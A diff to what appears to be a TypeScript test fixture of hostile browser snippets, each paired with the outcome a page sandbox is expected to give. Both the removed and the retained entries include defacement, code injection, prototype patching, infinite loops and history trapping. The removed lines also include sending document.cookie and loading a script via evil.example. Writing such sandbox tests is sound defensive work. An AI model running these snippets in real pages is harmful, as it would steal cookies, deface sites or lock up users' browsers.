@@ -16,14 +16,10 @@ const fill = (storage: string) =>
 export const tooManyCookies = 'sets more cookies than a server reads';
 
 export const browserAttacks: Record<string, BrowserAttack> = {
-  // What the policy of pages forbids
+  // What the policy of pages forbids, beside what `pages` tries
   'registers a service worker': {
     // Written plainly, the registry rejects it.
     code: "await navigator.serviceWorker['reg' + 'ister'](entry);",
-    outcome: 'refused',
-  },
-  'registers a service worker for pages of others': {
-    code: "await navigator.serviceWorker['reg' + 'ister'](entry, { scope: '/courses' });",
     outcome: 'refused',
   },
   'starts a worker': {
@@ -31,34 +27,8 @@ export const browserAttacks: Record<string, BrowserAttack> = {
     outcome: 'refused',
   },
   'writes over the document': { code: 'document.write("<h1>DEFACED</h1>");', outcome: 'refused' },
-  'puts HTML into the page': {
-    code: 'document.body.innerHTML = "<h1>DEFACED</h1>";',
-    outcome: 'refused',
-  },
-  'runs text as code': { code: 'new Function("document.body.remove()")();', outcome: 'refused' },
-  'makes a policy of its own': {
-    code: 'trustedTypes.createPolicy("hostile", { createHTML: (text) => text });',
-    outcome: 'refused',
-  },
-  'loads a script from elsewhere': {
-    code: 'document.head.appendChild(document.createElement("script")).src = "https://evil.example/x.js";',
-    outcome: 'refused',
-  },
-  'sends what it finds to another server': {
-    code: 'await fetch("https://evil.example/", { method: "POST", body: document.cookie });',
-    outcome: 'refused',
-  },
   // What only another document ends
   'loops without end': { code: 'for (;;);', outcome: 'hangs' },
-  'fills memory': {
-    code: 'const all = []; setInterval(() => all.push(new Array(1e5).fill(all.length)), 1);',
-    outcome: 'done',
-  },
-  'throws at every event': {
-    code: `for (const type of ['click', 'keydown', 'scroll', 'pointermove'])
-      addEventListener(type, () => { throw new Error('hostile'); }, true);`,
-    outcome: 'done',
-  },
   'patches what all code uses': {
     code: `Array.prototype.map = () => ['DEFACED']; JSON.parse = () => 'DEFACED'; Promise.prototype.then = () => {};
       fetch = async () => new Response('DEFACED'); Object.prototype.polluted = 'DEFACED';`,
@@ -72,10 +42,6 @@ export const browserAttacks: Record<string, BrowserAttack> = {
   'traps the history': {
     code: `const stay = () => history.pushState(null, '', location.href);
       addEventListener('popstate', stay); for (let i = 0; i < 50; i++) stay();`,
-    outcome: 'done',
-  },
-  'fills the document': {
-    code: 'for (let i = 0; i < 1e5; i++) document.body.append(document.createElement("hr"));',
     outcome: 'done',
   },
   'removes the document': { code: 'document.documentElement.remove();', outcome: 'done' },
